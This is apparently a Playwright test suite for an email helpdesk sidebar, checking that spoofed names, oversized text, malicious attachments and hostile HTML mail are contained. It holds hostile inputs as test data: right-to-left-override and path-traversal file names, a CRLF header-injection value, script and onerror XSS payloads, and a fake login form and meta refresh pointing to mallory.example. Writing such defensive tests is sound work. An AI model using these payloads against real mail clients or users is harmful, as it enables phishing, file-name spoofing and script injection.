import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { practise } from './app.ts';
import { type Chrome, launchChrome } from './chrome.ts';
import { deskCall } from './desk-call.ts';

let browser: Chrome;
let app: Page;
let last = 0;

const RTL = '\u202E';
const NAME = `${RTL}evil\u2067\u200B\u200Bzero\u200D ${'Z\u0301\u0302\u0303\u0304\u0305\u0306\u0307'.repeat(40)}${'long'.repeat(200)}`;
const SUBJECT = `${RTL}Subject <b>bold</b> {{contact.name}} ${'x'.repeat(10_000)}`;

interface BadMail {
  readonly name?: string;
  readonly subject?: string;
  readonly text?: string;
  readonly html?: string;
  readonly files?: readonly string[];
}

/** Puts a mail into the embedded desk as the import does; answers the number of its case. */
async function arrive({ name = 'Mallory', subject = 'Hello', text = 'Hi', html = '', files = [] }: BadMail) {
  last += 1;
  const attachments = [];
  for (const [index, file] of files.entries()) {
    const id = `bad-${last}-${index}`;
    const chunk = { id, index: 0, last: true, base64: btoa('<script>alert(1)</script>'), name: file };
    expect(await deskCall(app, 'putFile', { ...chunk, type: 'text/html' })).toMatchObject({ ok: true });
    attachments.push({ file: id, name: file, type: 'text/html', size: 25, contentId: '' });
  }
  const mail = {
    hash: String(last).padStart(64, '0'),
    messageId: `bad-${last}@mallory.example`,
    inReplyTo: '',
    references: [],
    from: { name, address: `mallory${last}@mallory.example` },
    to: [{ name: '', address: 'help@tarnwheel.example' }],
    cc: [],
    subject,
    date: new Date(Date.now() - 60_000).toISOString(),
    text,
    html,
    clipped: false,
    attachments,
  };
  const answer = await deskCall(app, 'importMail', { mails: [mail], ours: [] });
  expect(answer).toMatchObject({ ok: true, value: { added: 1 } });
  return (answer.value as { cases: string[] }).cases[0] ?? '';
}

async function take(number: string) {
  await app.goto(browser.url(`sidebar.html?case=local:${number}`));
  await app.locator('.case-pane').waitFor();
  await deskCall(app, 'openCase', `local:${number}`);
  await app.getByRole('textbox', { name: /^Reply to/ }).waitFor();
}

/** Elements that stick out of what should hold them, or of the window. */
const escaped = (holder: string) =>
  app.evaluate((selector) => {
    const out: string[] = [];
    for (const box of document.querySelectorAll(selector)) {
      const outer = box.getBoundingClientRect();
      if (outer.right > innerWidth + 1 || outer.left < -1)
        out.push(`${selector} ${outer.left} ${outer.right}`);
      const isClipped = (part: Element): boolean =>
        part !== box &&
        (getComputedStyle(part).overflow !== 'visible' || isClipped(part.parentElement ?? box));
      if (getComputedStyle(box).overflow !== 'visible') continue;
      for (const part of box.querySelectorAll('*')) {
        if (isClipped(part.parentElement ?? box)) continue;
        const inner = part.getBoundingClientRect();
        if (inner.width > 0 && (inner.right > outer.right + 1 || inner.bottom > outer.bottom + 1))
          out.push(`${selector} ${part.tagName}.${part.className}`);
      }
    }
    if (document.documentElement.scrollWidth > innerWidth) out.push('the page scrolls sideways');
    return out;
  }, holder);

beforeAll(async () => {
  browser = await launchChrome({ size: { width: 500, height: 900 } });
  app = await browser.open('sidebar.html');
  await practise(app);
});
afterAll(() => browser?.close());

describe('names and subjects made to mislead', () => {
  test('stay inside their row, tab and header, and leave everything usable', async () => {
    const number = await arrive({
      name: NAME,
      subject: SUBJECT,
      text: `${RTL}txt.exe ${'\u200B'.repeat(500)}end`,
    });
    await app.goto(browser.url('sidebar.html'));
    await app.getByRole('tab', { name: /^My queues/ }).click();
    await app.locator('.case-row').first().waitFor();
    await app.locator('.case-list').press('End');
    await app.locator(`[data-case="local:${number}"]`).waitFor();
    expect(await escaped('.case-row')).toEqual([]);
    await take(number);
    for (const part of ['.case-tabs [role=tab]', '.case-header', '.message', '.composer'])
      expect(await escaped(part), part).toEqual([]);
    for (const part of ['.case-header', '.case-tabs'])
      expect((await app.locator(part).boundingBox())?.height, part).toBeLessThan(200);
    expect(await app.locator('.case-header b, .case-row b b').count()).toBe(0);
    await app.getByRole('textbox', { name: /^Reply to/ }).fill('Usable');
    await app.getByRole('button', { name: 'Send', exact: true }).click();
    await app.locator('.message[data-direction=out]', { hasText: 'Usable' }).waitFor();
  });

  test('a text of a quarter of a megabyte in one line shows at once and can be opened further', async () => {
    const number = await arrive({ text: 'a'.repeat(256 * 1024) });
    const before = Date.now();
    await take(number);
    expect(Date.now() - before).toBeLessThan(4000);
    expect(await escaped('.message')).toEqual([]);
    await app.getByRole('button', { name: 'Show more' }).first().click();
    await app.getByRole('textbox', { name: /^Reply to/ }).fill('Still quick');
  });
});

test('a mail with base, refresh, forms and CSS that would escape changes nothing around it', async () => {
  const number = await arrive({
    text: 'plain',
    html: `<base href="https://mallory.example/"><meta http-equiv="refresh" content="0;url=https://mallory.example/">
      <style>*{position:fixed!important;inset:0!important;background:red!important}</style>
      <div style="position:fixed;inset:0;z-index:99999;background:red;width:9999px;height:9999px">Session expired</div>
      <form action="https://mallory.example/"><input name="password" autofocus><button>Sign in</button></form>
      <script>document.title = 'owned'</script><img src="x" onerror="document.title='owned'">`,
  });
  await take(number);
  await app.waitForTimeout(700);
  expect(app.url()).toContain('sidebar.html');
  expect(await app.title()).not.toBe('owned');
  expect(await escaped('.message')).toEqual([]);
  const frames = app.frames().slice(1);
  for (const frame of frames) {
    expect(frame.url()).not.toContain('mallory');
    expect(await frame.locator('form, input, base, meta[http-equiv=refresh], script').count()).toBe(0);
  }
  // Clickable, so nothing lies over it.
  await app.getByRole('textbox', { name: /^Reply to/ }).click();
  await app.keyboard.type('Fine');
});

describe('files', () => {
  test.each([
    ['with folders', '../../../etc/passwd', /^[^./\\][^/\\]*passwd$/],
    ['backwards', `invoice${RTL}fdp.exe`, /^invoicefdp\.exe$/],
    ['over two lines', `a\r\nContent-Type: x.html`, /^[^\r\n]+$/],
    ['for another system', 'C:\\Windows\\x.bat', /^[^\\/]+$/],
    ['without end', `${'n'.repeat(400)}.pdf.exe`, /\.pdf\.exe$/],
  ])('named %s are shown and saved under a name that does not lie', async (_, name, harmless) => {
    const number = await arrive({ files: [name] });
    await take(number);
    const button = app.locator('.attachment').first();
    await button.waitFor();
    const shown = (await button.locator('.attachment-name bdi').textContent()) ?? '';
    expect(shown).toMatch(harmless);
    expect(shown).not.toContain(RTL);
    expect(await escaped('.message')).toEqual([]);
    const [download] = await Promise.all([app.waitForEvent('download'), button.click()]);
    expect(download.suggestedFilename()).toMatch(/^[^./\\\r\n\u202E][^/\\\r\n\u202E]*$/);
    expect(download.suggestedFilename()).toMatch(harmless);
    expect(readFileSync(await download.path(), 'utf8')).toContain('<script>');
    expect(app.url()).toContain('sidebar.html');
  });

  test('of 50 MB are refused with a sentence; 20 MB arrive byte for byte', async () => {
    const number = await arrive({ name: 'Bigfile Betty' });
    await take(number);
    // Made in the page: Playwright carries no file this large.
    const pick = (bytes: number, name: string) =>
      app.evaluate(
        async ({ size, file }) => {
          const content = new Uint8Array(size);
          for (let at = 0; at < size; at += 65_536)
            crypto.getRandomValues(content.subarray(at, Math.min(size, at + 65_536)));
          const list = new DataTransfer();
          list.items.add(new File([content], file, { type: 'application/zip' }));
          const input = document.querySelector<HTMLInputElement>('.composer input[type=file]');
          if (!input) throw new Error('no file button');
          input.files = list.files;
          input.dispatchEvent(new Event('change', { bubbles: true }));
          const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', content));
          return [...digest].join();
        },
        { size: bytes, file: name },
      );
    await pick(50_000_000, 'huge.zip');
    const refusal = app.locator('.draft-files', { hasText: 'huge.zip is' });
    await refusal.waitFor();
    expect(await refusal.textContent()).toMatch(/takes at most 26\.2 MB/);
    await refusal.getByRole('button').click();
    const digest = await pick(20_000_000, 'large.zip');
    await app.locator('.draft-files', { hasText: 'large.zip' }).waitFor();
    await app.getByRole('button', { name: 'Send', exact: true }).click();
    await app.locator('.message[data-direction=out]', { hasText: 'large.zip' }).waitFor();
    const read = () =>
      app.evaluate(
        () =>
          new Promise<string>((done) => {
            const opened = indexedDB.open('casebar-desk');
            opened.onsuccess = () => {
              const files = opened.result.transaction('files').objectStore('files').getAll();
              files.onsuccess = async () => {
                opened.result.close();
                const big = files.result.find(({ blob }: { blob: Blob }) => blob.size === 20_000_000);
                if (!big) return done('not there');
                const hash = await crypto.subtle.digest('SHA-256', await big.blob.arrayBuffer());
                done([...new Uint8Array(hash)].join());
              };
            };
          }),
      );
    await expect.poll(read, { timeout: 8000 }).toBe(digest);
  });
});

test('nothing went wrong on our own pages', () => {
  // That something in a mail was blocked is told there too, while DOMPurify reads it in a document nobody sees.
  const blocked = /Content Security Policy directive/;
  expect(browser.problems.filter((problem) => !blocked.test(problem))).toEqual([]);
});
